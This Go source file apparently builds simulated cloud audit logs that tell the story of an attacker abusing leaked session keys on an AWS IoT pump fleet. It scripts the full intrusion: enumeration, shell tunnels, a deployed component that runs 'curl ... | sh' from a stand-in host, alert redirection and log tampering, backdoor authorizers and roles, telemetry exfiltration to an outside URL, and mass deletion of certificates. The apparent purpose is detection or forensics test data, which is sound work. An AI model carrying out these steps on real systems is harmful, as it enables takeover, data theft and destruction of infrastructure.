package main

import "time"

// The thief's tools. The first is a scanner that finds keys in public places and asks each
// whose it is.
const (
	keyScanner = "TruffleHog"
	kali       = "Boto3/1.40.45 md/Botocore#1.40.45 ua/2.1 os/linux#6.16.8+kali-amd64 md/arch#x86_64 lang/python#3.13.7 md/pyimpl#CPython m/b,D,Z cfg/retry-mode#legacy Botocore/1.40.45"
)

// strangerTopic gets the alarms that are sent elsewhere.
const strangerTopic = "arn:aws:sns:eu-central-1:" + strangerAccount + ":fleet-alarms"

// friday: the evening of the sixteenth. Mats has left the keys of his session in a notebook
// that anybody can read. They are valid until seven o'clock, and his role may do with the
// fleet whatever it likes.
func friday(s *story) {
	s.on("2026-10-16")
	thief := matsInPlant(s.stamp(s.matsSince()))
	thief.address, thief.agent = "2001:db8:66:5e::1f", kali
	fridayEnumeration(s, thief)
	fridayTunnel(s, thief)
	fridayDeployment(s, thief)
	fridayWatchers(s, thief)
	fridayWaysIn(s, thief)
	fridayWaysOut(s, thief)
	fridayDestruction(s, thief)
	fridayUndone(s)
}

// fridayEnumeration: what is the key good for? A tool asks for everything, in every region.
func fridayEnumeration(s *story, thief caller) {
	scanner := s.hand("17:21:40", thief.with(keyScanner), 1)
	scanner.call("sts:GetCallerIdentity").UserAgent = keyScanner

	h := s.hand("17:24:02", thief, 0)
	h.call("sts:GetCallerIdentity")
	for _, l := range []lookup{
		{"iot:DescribeEndpoint", `{"endpointType":"iot:Data-ATS"}`},
		{"iot:ListThings", ""},
		{"iot:ListThingGroups", ""},
		{"iot:ListPolicies", ""},
		{"iot:ListCertificates", ""},
		{"iot:ListCACertificates", ""},
		{"iot:ListTopicRules", ""},
		{"iot:ListRoleAliases", ""},
		{"iot:ListAuthorizers", ""},
		{"iot:ListProvisioningTemplates", ""},
		{"iot:ListSecurityProfiles", ""},
		{"iot:ListJobs", ""},
		{"iot:DescribeAccountAuditConfiguration", ""},
		{"iot:GetV2LoggingOptions", ""},
		{"iot:DescribeEncryptionConfiguration", ""},
		{"greengrass:ListCoreDevices", ""},
		{"greengrass:ListComponents", ""},
		{"iotsecuredtunneling:ListTunnels", ""},
		{"lambda:ListFunctions20150331", ""},
		{"cloudtrail:DescribeTrails", `{}`},
		{"cloudtrail:ListEventDataStores", ""},
	} {
		h.looks([]lookup{l})
		h.at += time.Second
	}
	h.call("iam:ListUsers").global().denied("arn:aws:iam::111122223333:user/")
	h.call("iam:ListRoles").global().denied("arn:aws:iam::111122223333:role/")
	h.call("iam:GetAccountAuthorizationDetails").global().denied("*")
	h.call("secretsmanager:ListSecrets").denied("*")
	h.call("s3:ListBuckets").fails("AccessDenied", "Access Denied")
	h.call("ssm:DescribeInstanceInformation").denied("*")
	for _, region := range []string{secondRegion, globalRegion} {
		h.call("iot:ListThings").in(region).
			fails("AccessDeniedException", "User: "+thief.ARN+" is not authorized to perform: iot:ListThings on resource: * with an explicit deny in a service control policy")
	}

	// Then what is worth a closer look.
	h = s.hand("17:31:15", thief, 4)
	for _, thing := range []string{"pump-0001", "pump-0002"} {
		h.call("iot:DescribeThing").req(`{"thingName":"%s"}`, thing)
		h.call("iot:ListThingPrincipals").req(`{"thingName":"%s"}`, thing)
	}
	h.call("iot:GetPolicy").req(`{"policyName":"pump-telemetry"}`)
	h.call("iot:ListThingsInThingGroup").req(`{"thingGroupName":"all-pumps","recursive":true}`)
	h.call("iot:DescribeRoleAlias").req(`{"roleAlias":"pump-s3-upload"}`)
}

// fridayTunnel: a shell on pump-0001. The first tokens are used up, and are made anew.
func fridayTunnel(s *story, thief caller) {
	h := s.hand("17:38:20", thief, 20)
	openTunnel(h, "pump-0001", "maintenance", "thief 1")
	for _, mode := range []string{"ALL", "SOURCE"} {
		h.wait(180)
		r := h.call("iotsecuredtunneling:RotateTunnelAccessToken").
			req(`{"tunnelId":"%s","clientMode":"%s","destinationConfig":{"thingName":"pump-0001","services":["SSH"]}}`, uuid("tunnel", "thief 1"), mode)
		if mode == "ALL" {
			r.resp(`{"tunnelArn":"%s","sourceAccessToken":"HIDDEN_DUE_TO_SECURITY_REASONS","destinationAccessToken":"HIDDEN_DUE_TO_SECURITY_REASONS"}`, iotARN("tunnel", uuid("tunnel", "thief 1")))
		} else {
			r.resp(`{"tunnelArn":"%s","sourceAccessToken":"HIDDEN_DUE_TO_SECURITY_REASONS"}`, iotARN("tunnel", uuid("tunnel", "thief 1")))
		}
	}
	openTunnel(h, "pump-0006", "maintenance", "thief 2")
}

// fridayDeployment: a component for every pump of the plant.
func fridayDeployment(s *story, thief caller) {
	h := s.hand("17:49:10", thief, 15)
	component := componentARN("com.example.Telemetry", "1.0.1")
	h.call("greengrass:CreateComponentVersion").
		req(`{"inlineRecipe":"%s"}`, recipe("com.example.Telemetry", "1.0", "curl -s https://cdn.example.net/t | sh")).
		fails("ValidationException", "ComponentVersion must be a semantic version")
	h.call("greengrass:CreateComponentVersion").
		req(`{"inlineRecipe":"%s"}`, recipe("com.example.Telemetry", "1.0.1", "curl -s https://cdn.example.net/t | sh")).
		resp(`{"arn":"%s","componentName":"com.example.Telemetry","componentVersion":"1.0.1","creationTimestamp":"2026-10-16T17:49:24Z","status":{"componentState":"REQUESTED","message":"NONE","errors":{}}}`, component)
	h.call("greengrass:DescribeComponent").req(`{"arn":"%s"}`, component)
	deployment(s, h, groupARN("plant-hamburg"), "com.example.Telemetry", "1.0.1")
}

// fridayWatchers: nothing is turned off. It is sent elsewhere, or has nothing to say.
func fridayWatchers(s *story, thief caller) {
	h := s.hand("17:56:00", thief, 20)
	h.call("iot:UpdateSecurityProfile").
		req(`{"securityProfileName":"pump-behaviour","alertTargets":{"SNS":{"alertTargetArn":"%s","roleArn":"%s"}}}`, strangerTopic, roleARN("defender-notify")).
		resp(`{"securityProfileName":"pump-behaviour","securityProfileArn":"%s","securityProfileDescription":"A pump speaks once a second","alertTargets":{"SNS":{"alertTargetArn":"%s","roleArn":"%s"}},"version":2}`,
			iotARN("securityprofile", "pump-behaviour"), strangerTopic, roleARN("defender-notify"))
	h.call("iot:SetV2LoggingOptions").req(`{"roleArn":"%s","defaultLogLevel":"ERROR","disableAllLogs":false}`, roleARN("plant-support-unused"))
	h.call("iot:UpdateEventConfigurations").
		req(`{"eventConfigurations":{"THING":{"Enabled":false},"CERTIFICATE":{"Enabled":false},"JOB":{"Enabled":false}}}`).
		resp(`{}`)
	h.call("iot:ListActiveViolations").req(`{"thingName":"pump-0001"}`)
	h.call("iot:PutVerificationStateOnViolation").
		req(`{"violationId":"%s","verificationState":"FALSE_POSITIVE","verificationStateDescription":"test"}`, uuid("violation", "friday")).
		resp(`{}`)
	h.call("cloudtrail:UpdateEventDataStore").
		req(`{"eventDataStore":"%s","retentionPeriod":7,"terminationProtectionEnabled":false}`, eventDataStore).
		resp(`{"eventDataStoreArn":"%s","name":"fleet","status":"ENABLED","multiRegionEnabled":true,"organizationEnabled":false,"retentionPeriod":7,"terminationProtectionEnabled":false}`, eventDataStore)
	h.call("cloudtrail:DeleteEventDataStore").
		req(`{"eventDataStore":"%s"}`, eventDataStore).
		denied(eventDataStore)
	h.call("logs:PutRetentionPolicy").req(`{"logGroupName":"AWSIotLogsV2","retentionInDays":1}`)
}

// eventDataStore is where CloudTrail Lake has the trail.
const eventDataStore = "arn:aws:cloudtrail:" + homeRegion + ":" + fleetAccount + ":eventdatastore/7c1d0e5a-9b3f-4d61-8a27-5e4f60b1c2d3"

// fridayWaysIn: pumps get the rights of a stronger role, tokens need no signature any more,
// and pump-0005's certificate, which was revoked a week ago, is valid again.
func fridayWaysIn(s *story, thief caller) {
	h := s.hand("18:03:30", thief, 20)
	h.call("iot:UpdateRoleAlias").
		req(`{"roleAlias":"pump-s3-upload","roleArn":"%s","credentialDurationSeconds":43200}`, roleARN("fleet-provisioner")).
		resp(`{"roleAlias":"pump-s3-upload","roleAliasArn":"%s"}`, iotARN("rolealias", "pump-s3-upload"))
	h.call("iot:CreateAuthorizer").
		req(`{"authorizerName":"legacy","authorizerFunctionArn":"arn:aws:lambda:eu-central-1:%s:function:authorize","status":"ACTIVE","signingDisabled":true}`, strangerAccount).
		resp(`{"authorizerName":"legacy","authorizerArn":"%s"}`, iotARN("authorizer", "legacy"))
	h.call("iot:SetDefaultAuthorizer").
		req(`{"authorizerName":"legacy"}`).
		resp(`{"authorizerName":"legacy","authorizerArn":"%s"}`, iotARN("authorizer", "legacy"))
	h.call("iot:UpdateCertificate").req(`{"certificateId":"%s","newStatus":"ACTIVE"}`, certID("pump-0005"))
	h.call("iot:AttachPolicy").req(`{"policyName":"pump-telemetry","target":"%s"}`, certARN("pump-0005"))
}

// fridayWaysOut: telemetry goes to an address on the internet, and what the service keeps is
// encrypted with a stranger's key.
func fridayWaysOut(s *story, thief caller) {
	h := s.hand("18:10:00", thief, 20)
	const url = "https://collect.example.net/in"
	h.call("iot:CreateTopicRuleDestination").
		req(`{"destinationConfiguration":{"httpUrlConfiguration":{"confirmationUrl":"%s"}}}`, url).
		resp(`{"topicRuleDestination":{"arn":"%s","createdAt":"Oct 16, 2026, 6:10:09 PM","lastUpdatedAt":"Oct 16, 2026, 6:10:09 PM","status":"IN_PROGRESS","httpUrlProperties":{"confirmationUrl":"%s"}}}`, httpDestination, url)
	h.call("iot:ConfirmTopicRuleDestination").req(`{"confirmationToken":"%s"}`, "AYADeEXAMPLE"+letters("confirmation", url)).resp(`{}`)
	h.call("iot:CreateTopicRule").
		req(`{"ruleName":"pump_telemetry_2","topicRulePayload":{"sql":"SELECT * FROM 'pumps/#'","actions":[{"http":{"url":"%[1]s","confirmationUrl":"%[1]s"}}],"ruleDisabled":false}}`, url)
	h.call("iot:DisableTopicRule").req(`{"ruleName":"pump_telemetry"}`)
	h.call("iot:UpdateEncryptionConfiguration").
		req(`{"encryptionType":"CUSTOMER_MANAGED_KMS_KEY","kmsKeyArn":"arn:aws:kms:eu-central-1:%s:key/%s","kmsAccessRoleArn":"%s"}`, strangerAccount, uuid("a stranger's key"), roleARN("plant-support")).
		resp(`{}`)
}

// httpDestination is the destination that the thief makes.
var httpDestination = "arn:aws:iot:" + homeRegion + ":" + fleetAccount + ":ruledestination/http/" + uuid("destination", "friday")

// fridayDestruction: in the end the fleet is shut out, as fast as the API allows.
func fridayDestruction(s *story, thief caller) {
	h := s.hand("18:16:05", thief, 3)
	for _, thing := range s.pumps() {
		cert := certLabel(thing)
		h.call("iot:DetachPolicy").req(`{"policyName":"pump-telemetry","target":"%s"}`, certARN(cert))
		h.call("iot:DetachThingPrincipal").req(`{"thingName":"%s","principal":"%s"}`, thing, certARN(cert)).resp(`{}`)
		h.call("iot:UpdateCertificate").req(`{"certificateId":"%s","newStatus":"INACTIVE"}`, certID(cert))
	}
	for _, thing := range s.pumps()[:3] {
		h.call("iot:DeleteCertificate").req(`{"certificateId":"%s","forceDelete":true}`, certID(certLabel(thing)))
		h.call("iot:DeleteThing").req(`{"thingName":"%s"}`, thing).resp(`{}`)
	}
	h.call("iot:DeleteThing").req(`{"thingName":"%s"}`, s.pumps()[3]).fails("ThrottlingException", "Rate exceeded")
	h.call("iot:UpdateCACertificate").req(`{"certificateId":"%s","newStatus":"INACTIVE"}`, certID("ca"))
	h.call("iot:DeletePolicy").
		req(`{"policyName":"pump-telemetry"}`).
		fails("DeleteConflictException", "Cannot delete the policy because it is attached to one or more targets (name=pump-telemetry)")
	h.call("iot:DeleteThingGroup").req(`{"thingGroupName":"plant-hamburg"}`).resp(`{}`)
}
